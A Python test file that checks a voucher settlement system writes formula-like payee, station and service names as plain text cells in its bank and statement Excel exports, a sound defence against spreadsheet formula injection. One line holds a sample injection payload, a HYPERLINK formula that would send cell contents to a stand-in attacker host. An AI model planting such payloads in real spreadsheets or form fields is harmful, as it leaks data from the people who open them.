"""Names are text in every workbook we hand out: a payee, provider or service named like a
formula is written as a string cell (Excel shows it, never evaluates it), unchanged."""

from __future__ import annotations

import io

import sqlalchemy as sa
from openpyxl import load_workbook

from eldercare.db import db
from marketplace.models import Service
from tests.vouchers.settlement.builders import approved_statement
from tests.vouchers.settlement.conftest import spend
from tests.vouchers.settlement.doc_builders import make_statement
from tests.vouchers.settlement.test_documents import public_url  # noqa: F401 (fixture)
from vouchers.settlement.bank import bank_files
from vouchers.settlement.documents.statement_xlsx import statement_xlsx

FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"点击")'
SERVICE = "=1+1"


def _cells(data: bytes) -> list:
    book = load_workbook(io.BytesIO(data))  # not read-only: data_type is the stored one
    return [cell for row in book.active.iter_rows() for cell in row if cell.value is not None]


def test_a_payee_named_like_a_formula_is_text_in_the_bank_xlsx(shop, bureau):
    station = shop.market.station
    station.bank_account_name = FORMULA
    db.session.flush()
    approved_statement(station, [spend(shop, 1500)], preparer=bureau.officer,
                       approver=bureau.approver)  # fmt: skip
    batch = bank_files.create_batch(actor=bureau.officer)
    cells = _cells(b"".join(bank_files.xlsx_chunks(batch)))
    named = [c for c in cells if c.value == FORMULA]
    assert len(named) == 1 and named[0].data_type == "s"
    assert {c.data_type for c in cells} == {"s"}


def test_names_like_formulas_are_text_in_the_statement_xlsx(shop, bureau, public_url):  # noqa: F811
    station = shop.market.station
    station.name = FORMULA
    station.bank_account_name = FORMULA
    db.session.flush()
    redemptions = [spend(shop, 1500)]
    db.session.execute(sa.update(Service).values(title=SERVICE))
    statement = make_statement(station, redemptions, status="approved",
                               preparer=bureau.officer, approver=bureau.approver)  # fmt: skip
    cells = _cells(b"".join(statement_xlsx(statement)))
    texts = {(c.value, c.data_type) for c in cells if c.value in (FORMULA, SERVICE)}
    assert texts == {(FORMULA, "s"), (SERVICE, "s")}
    assert "f" not in {c.data_type for c in cells}
